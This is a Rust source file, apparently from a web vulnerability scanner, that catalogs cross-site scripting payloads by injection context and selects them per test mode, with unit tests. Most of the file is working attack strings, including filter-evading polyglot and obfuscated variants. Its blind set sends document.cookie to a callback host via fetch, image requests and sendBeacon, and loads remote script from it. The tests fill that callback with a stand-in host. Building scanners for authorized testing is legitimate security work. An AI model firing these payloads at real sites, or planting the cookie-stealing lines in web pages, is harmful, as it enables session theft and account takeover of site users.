// XSS Payload Catalog
// Static, categorized base payloads and per-mode selection

use crate::core::config::TestMode;
use crate::payload::injector::ParameterLocation;
use crate::xss::context::ContextHint;
use rand::Rng;
use serde::Serialize;
use std::collections::HashSet;

#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize)]
#[serde(rename_all = "lowercase")]
pub enum PayloadCategory {
    Basic,
    Attribute,
    JavaScript,
    Url,
    Dom,
    Blind,
    Polyglot,
    Advanced,
}

impl PayloadCategory {
    pub fn affinity(self) -> Option<ContextHint> {
        match self {
            PayloadCategory::Basic => Some(ContextHint::HtmlBody),
            PayloadCategory::Attribute => Some(ContextHint::Attribute),
            PayloadCategory::JavaScript => Some(ContextHint::JsString),
            PayloadCategory::Url => Some(ContextHint::Url),
            PayloadCategory::Polyglot => Some(ContextHint::Unknown),
            PayloadCategory::Dom | PayloadCategory::Blind | PayloadCategory::Advanced => None,
        }
    }
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Payload {
    pub text: String,
    pub category: PayloadCategory,
    pub context_affinity: Option<ContextHint>,
}

impl Payload {
    pub fn new(text: impl Into<String>, category: PayloadCategory) -> Self {
        Self {
            text: text.into(),
            category,
            context_affinity: category.affinity(),
        }
    }
}

const BASIC: &[&str] = &[
    "<script>alert(document.domain)</script>",
    "<img src=x onerror=alert(document.domain)>",
    "<svg onload=alert(document.domain)>",
    "<body onload=alert(document.domain)>",
    "<iframe src=\"javascript:alert(document.domain)\">",
    "<details open ontoggle=\"alert(document.domain)\">",
    "<input autofocus onfocus=\"alert(document.domain)\">",
    "<video><source onerror=\"alert(document.domain)\">",
    "<audio src=x onerror=alert(document.domain)>",
    "<marquee onstart=\"alert(document.domain)\">x</marquee>",
    "<select autofocus onfocus=\"alert(document.domain)\"></select>",
    "<textarea autofocus onfocus=\"alert(document.domain)\">x</textarea>",
    "<math><mi xlink:href=\"javascript:alert(document.domain)\">x</mi></math>",
    "<picture><img src=x onerror=alert(document.domain)></picture>",
];

const ATTRIBUTE: &[&str] = &[
    "\" autofocus onfocus=alert(document.domain) x=\"",
    "' autofocus onfocus=alert(document.domain) x='",
    "` autofocus onfocus=alert(document.domain) x=`",
    "\" onmouseover=alert(document.domain) x=\"",
    "' onmouseover=alert(document.domain) x='",
    "\"><img src=x onerror=alert(document.domain)>",
    "'><img src=x onerror=alert(document.domain)>",
    "\"><svg onload=alert(document.domain)>",
    "'><svg onload=alert(document.domain)>",
    "\" onfocus=alert(document.domain) autofocus=\"",
];

const JAVASCRIPT: &[&str] = &[
    "\";alert(document.domain);//",
    "';alert(document.domain);//",
    "`;alert(document.domain);//",
    "\"-alert(document.domain)-\"",
    "'-alert(document.domain)-'",
    "${alert(document.domain)}",
    "</script><script>alert(document.domain)</script>",
    "</script><img src=x onerror=alert(document.domain)>",
    "\\\";alert(document.domain);//",
];

const URL: &[&str] = &[
    "javascript:alert(document.domain)",
    "javascript:alert(document.cookie)",
    "JaVaScRiPt:alert(document.domain)",
    "javascript://%0aalert(document.domain)",
    "data:text/html,<script>alert(document.domain)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydChkb2N1bWVudC5kb21haW4pPC9zY3JpcHQ+",
    "jav&#x61;script:alert(document.domain)",
    "jav&#x09;ascript:alert(document.domain)",
];

const DOM: &[&str] = &[
    "#<img src=x onerror=alert(document.domain)>",
    "#<svg onload=alert(document.domain)>",
    "#\" onload=\"alert(document.domain)",
    "#' onerror='alert(document.domain)",
    "?x=<script>alert(document.domain)</script>",
    "javascript:alert(location.hash)",
    "javascript:eval(location.hash.substr(1))",
    "<img src=x onerror=eval(location.hash.slice(1))>",
    "<iframe srcdoc=\"<script>parent.alert(document.domain)</script>\">",
];

const POLYGLOT: &[&str] = &[
    "\"><<sCriPt>alert(document.domain)</sCriPt>",
    "'><img src=x onerror=alert(document.domain)>",
    "`><svg onload=alert(document.domain)>",
    "'\"></textarea></noscript></title></style></template></noembed></script><svg/onload=alert(document.domain)>",
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert(document.domain) )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert(document.domain)//>\\x3e",
    "-->'\"><svg onload=alert(document.domain)>",
];

const ADVANCED: &[&str] = &[
    "<script>alert`${document.domain}`</script>",
    "<img src=x onerror=alert`${document.domain}`>",
    "<script>alert(window[\"doc\"+\"ument\"][\"dom\"+\"ain\"])</script>",
    "<script>window[\"alert\"](document.domain)</script>",
    "<script>globalThis[\"alert\"](document.domain)</script>",
    "<script>Function(\"ale\"+\"rt(document.domain)\")()</script>",
    "<script>[].constructor.constructor(\"alert(document.domain)\")()</script>",
    "<script>setTimeout(\"alert(document.domain)\")</script>",
    "<script>setTimeout(alert,0,document.domain)</script>",
    "<svg><animate onbegin=alert(document.domain) attributeName=x dur=1s>",
    "<svg><set onbegin=alert(document.domain) attributename=x to=1>",
    "<img src=x onerror=\"window.onerror=alert;throw document.domain\">",
];

/// Blind payload templates; `{cb}` becomes the callback base URL.
const BLIND: &[&str] = &[
    "<script>fetch('{cb}?c='+document.cookie)</script>",
    "<img src=x onerror=\"fetch('{cb}?c='+document.cookie)\">",
    "<svg onload=\"fetch('{cb}?c='+document.cookie)\">",
    "<script>new Image().src='{cb}?c='+document.cookie;</script>",
    "<script>navigator.sendBeacon('{cb}', document.cookie)</script>",
    "\"><script src=\"{cb}.js\"></script>",
    "'><script src='{cb}.js'></script>",
];

/// Static payload source. Blind payloads carry a per-scan token so callback
/// hits can be tied back to this scan.
#[derive(Debug, Clone)]
pub struct PayloadCatalog {
    callback: Option<String>,
    session_token: String,
}

impl PayloadCatalog {
    pub fn new(callback: Option<String>) -> Self {
        let token: u32 = rand::thread_rng().gen();
        Self {
            callback: callback
                .map(|c| c.trim().trim_end_matches('/').to_string())
                .filter(|c| !c.is_empty()),
            session_token: format!("{:08x}", token),
        }
    }

    pub fn category(&self, category: PayloadCategory) -> Vec<Payload> {
        let table: &[&str] = match category {
            PayloadCategory::Basic => BASIC,
            PayloadCategory::Attribute => ATTRIBUTE,
            PayloadCategory::JavaScript => JAVASCRIPT,
            PayloadCategory::Url => URL,
            PayloadCategory::Dom => DOM,
            PayloadCategory::Polyglot => POLYGLOT,
            PayloadCategory::Advanced => ADVANCED,
            PayloadCategory::Blind => return self.blind(),
        };

        table.iter().map(|t| Payload::new(*t, category)).collect()
    }

    fn blind(&self) -> Vec<Payload> {
        let Some(ref callback) = self.callback else {
            return Vec::new();
        };
        let base = format!("{}/{}", callback, self.session_token);
        BLIND
            .iter()
            .map(|t| Payload::new(t.replace("{cb}", &base), PayloadCategory::Blind))
            .collect()
    }

    fn categories_for(mode: TestMode, location: ParameterLocation) -> Vec<PayloadCategory> {
        match mode {
            TestMode::Classic => vec![
                PayloadCategory::Basic,
                PayloadCategory::Attribute,
                PayloadCategory::JavaScript,
                PayloadCategory::Url,
            ],
            TestMode::Dom => vec![PayloadCategory::Dom, PayloadCategory::JavaScript],
            TestMode::Blind => vec![PayloadCategory::Blind],
            TestMode::Advanced => {
                let mut cats = vec![
                    PayloadCategory::Advanced,
                    PayloadCategory::Polyglot,
                    PayloadCategory::Basic,
                ];
                match location {
                    ParameterLocation::UrlQuery | ParameterLocation::UrlPath { .. } => {
                        cats.push(PayloadCategory::Url)
                    }
                    ParameterLocation::Form | ParameterLocation::File => {
                        cats.push(PayloadCategory::Attribute)
                    }
                    _ => {}
                }
                cats
            }
        }
    }

    /// Mode-appropriate payloads, deduplicated and capped at `max`.
    ///
    /// Categories are interleaved so that a small cap still samples every
    /// family the mode draws from.
    pub fn for_mode(&self, mode: TestMode, location: ParameterLocation, max: usize) -> Vec<Payload> {
        let tables: Vec<Vec<Payload>> = Self::categories_for(mode, location)
            .into_iter()
            .map(|c| self.category(c))
            .collect();

        let longest = tables.iter().map(Vec::len).max().unwrap_or(0);
        let mut seen = HashSet::new();
        let mut selected = Vec::new();

        for i in 0..longest {
            for table in &tables {
                if selected.len() >= max {
                    return selected;
                }
                if let Some(payload) = table.get(i) {
                    if seen.insert(payload.text.clone()) {
                        selected.push(payload.clone());
                    }
                }
            }
        }

        selected
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const BLOCK_WORDS: &[&str] = &[
        "blocked", "forbidden", "denied", "malicious", "suspicious", "violation", "firewall",
    ];

    #[test]
    fn test_for_mode_respects_cap_and_dedup() {
        let catalog = PayloadCatalog::new(None);
        let payloads = catalog.for_mode(TestMode::Classic, ParameterLocation::UrlQuery, 12);
        assert_eq!(payloads.len(), 12);

        let unique: HashSet<&str> = payloads.iter().map(|p| p.text.as_str()).collect();
        assert_eq!(unique.len(), payloads.len());
    }

    #[test]
    fn test_classic_interleaves_families() {
        let catalog = PayloadCatalog::new(None);
        let payloads = catalog.for_mode(TestMode::Classic, ParameterLocation::UrlQuery, 4);
        let cats: Vec<PayloadCategory> = payloads.iter().map(|p| p.category).collect();
        assert_eq!(
            cats,
            vec![
                PayloadCategory::Basic,
                PayloadCategory::Attribute,
                PayloadCategory::JavaScript,
                PayloadCategory::Url
            ]
        );
    }

    #[test]
    fn test_blind_requires_callback() {
        assert!(PayloadCatalog::new(None).category(PayloadCategory::Blind).is_empty());

        let catalog = PayloadCatalog::new(Some("https://cb.example.net/".to_string()));
        let blind = catalog.category(PayloadCategory::Blind);
        assert!(!blind.is_empty());
        assert!(blind.iter().all(|p| p.text.contains("https://cb.example.net/")));
        assert!(blind.iter().all(|p| !p.text.contains("{cb}")));
    }

    #[test]
    fn test_no_payload_trips_block_language() {
        let catalog = PayloadCatalog::new(Some("https://cb.example.net".to_string()));
        for mode in [TestMode::Classic, TestMode::Dom, TestMode::Blind, TestMode::Advanced] {
            for p in catalog.for_mode(mode, ParameterLocation::Form, 500) {
                let lower = p.text.to_lowercase();
                assert!(
                    BLOCK_WORDS.iter().all(|w| !lower.contains(w)),
                    "payload {:?} would look like a block page when echoed",
                    p.text
                );
            }
        }
    }
}
